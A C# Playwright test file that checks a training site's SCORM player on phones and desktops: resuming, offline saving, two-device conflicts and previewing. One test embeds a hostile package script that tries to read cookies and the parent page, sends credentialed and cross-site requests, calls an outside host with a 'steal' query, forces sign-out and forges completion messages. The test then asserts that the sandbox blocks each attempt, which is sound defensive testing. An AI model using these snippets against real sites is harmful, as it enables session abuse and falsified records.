using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using TrainingSite.Courses.Models;
using TrainingSite.Courses.Scorm;
using TrainingSite.SiteTests.Courses.Scorm;

namespace TrainingSite.BrowserTests;

/// <summary>SCORM packages in a phone's browser: they speak with the site through one message, and reach nothing else.</summary>
[Collection(BrowserCollection.Name)]
public sealed class PackageTests(BrowserSite site)
{
    [Theory]
    [InlineData("1.2")]
    [InlineData("2004")]
    public async Task Package_LeftAndOpenedAgain_GoesOnAndCompletes(string edition)
    {
        var (course, lesson) = await site.PublishPackageAsync(edition == "1.2" ? SamplePackages.Scorm12() : SamplePackages.Scorm2004());
        var phone = await site.OpenAsAsync("member", phone: true);
        var problems = new List<string>();
        phone.PageError += (_, error) => problems.Add(error);
        await phone.GotoAsync($"/courses/{course}/{lesson}");
        await BrowserSite.AssertAccessibleAsync(phone);
        await phone.ClickAsync(".btn:has-text('Mở gói học')");
        var part = phone.FrameLocator("#player-frame");
        await Assertions.Expect(part.Locator("#status")).ToHaveTextAsync("incomplete");
        Assert.NotEqual("", await part.Locator("#name").InnerTextAsync());
        await BrowserSite.AssertAccessibleAsync(phone);
        Assert.True((await phone.Locator("#player-frame").BoundingBoxAsync())!.Height >= 420);

        await phone.Context.SetOfflineAsync(true);
        await part.Locator("#turn").ClickAsync();
        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("Chưa gửi được.");
        await phone.Context.SetOfflineAsync(false);
        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("Đã lưu lúc");

        await phone.ReloadAsync();
        await Assertions.Expect(part.Locator("#place")).ToHaveTextAsync("trang-2");
        await Assertions.Expect(part.Locator("#memory")).ToHaveTextAsync("nhớ: đã xem trang 1");
        await part.Locator("#finish").ClickAsync();
        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("Bạn đã xong bài này.");

        await phone.ClickAsync("text=Về bài học");
        await Assertions.Expect(phone.Locator("section[aria-labelledby=package]")).ToContainTextAsync("Xong");
        await BrowserSite.AssertAccessibleAsync(phone);
        await phone.GotoAsync($"/courses/{course}");
        Assert.Contains("Bạn đã hoàn thành khóa học này", await phone.InnerTextAsync("main"), StringComparison.Ordinal);
        var state = await site.QueryAsync(db => db.Set<ScormState>().AsNoTracking().Where(row => db.Set<Lesson>().Any(item => item.Id == row.LessonId && item.Course.Slug == course)).SingleAsync());
        Assert.Equal((90, edition == "1.2" ? 80 : null, edition == "1.2" ? null : 0.9), (state.SessionSeconds, state.ScoreRaw, state.ScoreScaled));
        Assert.Empty(problems);
        await phone.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_OfSeveralPages_KeepsItsStateBetweenThem()
    {
        var (course, lesson) = await site.PublishPackageAsync(SamplePackages.WithPages());
        var phone = await site.OpenAsAsync("member", phone: true);
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/1");

        await phone.FrameLocator("#player-frame").Locator("a").ClickAsync();

        await Assertions.Expect(phone.FrameLocator("#player-frame").Locator("#memory")).ToHaveTextAsync("từ trang một");
        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("Bạn đã xong bài này.");
        await phone.Context.CloseAsync();
    }

    [Theory]
    [InlineData(false, false)]
    [InlineData(true, false)]
    [InlineData(false, true)]
    public async Task Package_Left_SaysItsLastWord(bool byBack, bool hasHost)
    {
        using var host = hasHost ? site.HostOfItsOwn() : null;
        var (course, lesson) = await site.PublishPackageAsync(SamplePackages.WithLastWord());
        var phone = await site.OpenAsAsync("member", phone: true);
        await phone.GotoAsync($"/courses/{course}/{lesson}");
        await phone.ClickAsync(".btn:has-text('Mở gói học')");
        await Assertions.Expect(phone.FrameLocator("#player-frame").Locator("#status")).ToHaveTextAsync("begun");

        if (byBack)
        {
            await phone.EvaluateAsync("history.back()");
        }
        else
        {
            await phone.ClickAsync("text=Về bài học");
        }

        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}");
        await phone.ReloadAsync();
        await Assertions.Expect(phone.Locator("section[aria-labelledby=package]")).ToContainTextAsync("Xong");
        await phone.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_OpenedOnTwoDevices_SavesFromTheLater()
    {
        var (course, lesson) = await site.PublishPackageAsync(SamplePackages.Scorm12());
        var phone = await site.OpenAsAsync("member", phone: true);
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/1");
        await Assertions.Expect(phone.FrameLocator("#player-frame").Locator("#status")).ToHaveTextAsync("incomplete");
        var desk = await site.OpenAsAsync("member", phone: false);
        await desk.GotoAsync($"/courses/{course}/{lesson}/package/1");
        await Assertions.Expect(desk.FrameLocator("#player-frame").Locator("#status")).ToHaveTextAsync("incomplete");

        await phone.FrameLocator("#player-frame").Locator("#turn").ClickAsync();

        await Assertions.Expect(phone.Locator("#player-line")).ToContainTextAsync("mở ở nơi khác");
        await BrowserSite.AssertAccessibleAsync(desk);
        await desk.FrameLocator("#player-frame").Locator("#turn").ClickAsync();
        await Assertions.Expect(desk.Locator("#player-line")).ToContainTextAsync("Đã lưu lúc");
        await phone.Context.CloseAsync();
        await desk.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_Hostile_ReachesNothingOfTheSite()
    {
        const string Attack = """
            <!DOCTYPE html><html lang="vi"><meta charset="utf-8"><title>Gói xấu</title><body><h1>Gói xấu</h1><script>
            const site = location.origin;
            const failed = (error) => error.name;
            const attempt = (action) => { try { return String(action()); } catch (error) { return failed(error); } };
            const ask = (address, options) => fetch(site + address, { credentials: 'include', ...options }).then((answer) => answer.text()).then((words) => 'read ' + words.length, failed);
            (async () => {
              const found = {
                origin: self.origin,
                topDocument: attempt(() => window.top.document.title),
                parentDocument: attempt(() => window.parent.document.title),
                frameElement: attempt(() => String(window.frameElement)),
                cookie: attempt(() => document.cookie),
                stored: attempt(() => localStorage.length),
                read: await ask('/me'),
                post: await ask('/account/sign-out', { method: 'POST' }),
                postBlind: await ask('/courses/edit/new', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ a: 1 }) }),
                elsewhere: await fetch('https://vi-du.vn/?an-cap', { mode: 'no-cors' }).then(() => 'sent', failed),
                picture: await new Promise((done) => { const picture = new Image(); picture.onload = () => done('loaded'); picture.onerror = () => done('blocked'); picture.src = site + '/themes/community/dist/img/mark.svg'; }),
                opened: attempt(() => window.open('/me')),
                worker: attempt(() => new Worker(site + '/sw.js')),
              };
              try { window.top.location = site + '/account/sign-in'; found.top = 'went'; } catch (error) { found.top = failed(error); }
              const form = document.createElement('form');
              form.method = 'post'; form.action = site + '/account/sign-out'; form.target = '_top';
              document.body.append(form);
              form.submit();
              const inner = document.createElement('iframe');
              inner.src = site + '/me';
              document.body.append(inner);
              // A frame of its own speaks in the package's name; so does a message that is no number of ours.
              const liar = document.createElement('iframe');
              liar.srcdoc = '<script>top.postMessage({ scorm: { status: "passed" } }, "*")<' + '/script>';
              document.body.append(liar);
              window.top.postMessage({ scorm: { status: ['passed'], location: { x: 1 }, score_raw: 'NaN', suspend_data: 7 } }, '*');
              await new Promise((done) => setTimeout(done, 500));
              const words = document.createElement('p');
              words.id = 'found'; words.textContent = JSON.stringify(found);
              document.body.append(words);
              document.body.dataset.go = '1';
              addEventListener('click', () => { location = site + '/me'; });
            })();
            </script>
            """;
        var (course, lesson) = await site.PublishPackageAsync(SamplePackages.WithPage(Attack));
        var phone = await site.OpenAsAsync("member", phone: true);
        var asked = new List<string>();
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/1");
        phone.Request += (_, request) => asked.Add($"{request.Method} {new Uri(request.Url).PathAndQuery}");
        var found = JsonSerializer.Deserialize<Dictionary<string, string>>(await phone.FrameLocator("#player-frame").Locator("#found").InnerTextAsync())!;

        Assert.Equal("null", found["origin"]);
        Assert.Equal("SecurityError", found["topDocument"]);
        Assert.Equal("TypeError", found["parentDocument"]);
        Assert.Equal("null", found["frameElement"]);
        Assert.Equal(("", "0"), (found["cookie"], found["stored"]));
        Assert.Equal(("TypeError", "TypeError", "TypeError", "TypeError"), (found["read"], found["post"], found["postBlind"], found["elsewhere"]));
        Assert.Equal(("blocked", "null", "SecurityError", "SecurityError"), (found["picture"], found["opened"], found["worker"], found["top"]));
        Assert.EndsWith($"/courses/{course}/{lesson}/package/1", phone.Url);
        Assert.DoesNotContain(asked, request => request.Contains("/me", StringComparison.Ordinal) || request.Contains("sign-", StringComparison.Ordinal) || request.Contains("/edit/", StringComparison.Ordinal));
        Assert.False(await site.QueryAsync(db => db.Set<ScormState>().AnyAsync(row => row.DoneUtc != null && db.Set<Lesson>().Any(item => item.Id == row.LessonId && item.Course.Slug == course))));

        // The frame that goes to a page of the site does not get it: no page lets itself be framed.
        await phone.FrameLocator("#player-frame").Locator("h1").ClickAsync();
        await phone.WaitForTimeoutAsync(1_000);
        var inside = phone.Frames.Single(frame => frame.ParentFrame == phone.MainFrame);
        Assert.DoesNotContain("Lò", await inside.EvaluateAsync<string>("document.documentElement.textContent"), StringComparison.Ordinal);
        await phone.GotoAsync("/today");
        Assert.EndsWith("/today", phone.Url);
        await phone.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_ThatLeadsOnItself_IsFollowed()
    {
        var (course, lesson) = await site.PublishPackageAsync(SamplePackages.WithMoves());
        var phone = await site.OpenAsAsync("member", phone: true);
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/1");
        var part = phone.FrameLocator("#player-frame");
        await Assertions.Expect(part.Locator("#valid")).ToHaveTextAsync("true false true false");

        await part.Locator("#continue").ClickAsync();
        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}/package/2");
        await Assertions.Expect(part.Locator("#valid")).ToHaveTextAsync("false true true false");
        await part.Locator("#previous").ClickAsync();
        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}/package/1");
        await part.Locator("#choose").ClickAsync();
        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}/package/2");
        await part.Locator("#suspendAll").ClickAsync();
        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}");
        await phone.GotoAsync($"/courses/{course}/{lesson}/package/2");
        await part.Locator("#exitAll").ClickAsync();
        await phone.WaitForURLAsync($"**/courses/{course}/{lesson}");

        await Assertions.Expect(phone.Locator("section[aria-labelledby=package]")).ToContainTextAsync("Xong");
        Assert.Equal(2, await site.QueryAsync(db => db.Set<ScormState>().CountAsync(row => row.DoneUtc != null && db.Set<Lesson>().Any(item => item.Id == row.LessonId && item.Course.Slug == course))));
        await phone.Context.CloseAsync();
    }

    [Fact]
    public async Task Package_BroughtInAtADesk_CanBeLookedAtFirst()
    {
        var desk = await site.OpenAsAsync("so.organizer", phone: false);
        var course = await desk.DraftForPackagesAsync();
        await desk.ClickAsync("text=Nhập gói SCORM");
        await BrowserSite.AssertAccessibleAsync(desk);
        await desk.SetInputFilesAsync("#File", new FilePayload { Name = "goi.zip", MimeType = "application/zip", Buffer = SamplePackages.Zip(("a.txt", "x")) });
        await desk.ClickAsync(".action-bar .btn-primary");
        await desk.Locator(".error-summary", new() { HasText = "imsmanifest.xml" }).WaitForAsync();
        await BrowserSite.AssertAccessibleAsync(desk);
        await desk.SetInputFilesAsync("#File", new FilePayload { Name = "goi.zip", MimeType = "application/zip", Buffer = SamplePackages.WithParts() });
        await desk.ClickAsync(".action-bar .btn-primary");
        await desk.WaitForURLAsync($"**/courses/edit/{course}/lessons/ba-phan");
        await BrowserSite.AssertAccessibleAsync(desk);
        await desk.ClickAsync("text=Xem thử gói");
        await Assertions.Expect(desk.Locator("#player-line")).ToContainTextAsync("Xem thử: không lưu gì.");
        await BrowserSite.AssertAccessibleAsync(desk);
        Assert.False(await site.QueryAsync(db => db.Set<ScormState>().AnyAsync(row => db.Set<Lesson>().Any(item => item.Id == row.LessonId && item.Course.Slug == course))));
        await desk.Context.CloseAsync();
    }
}
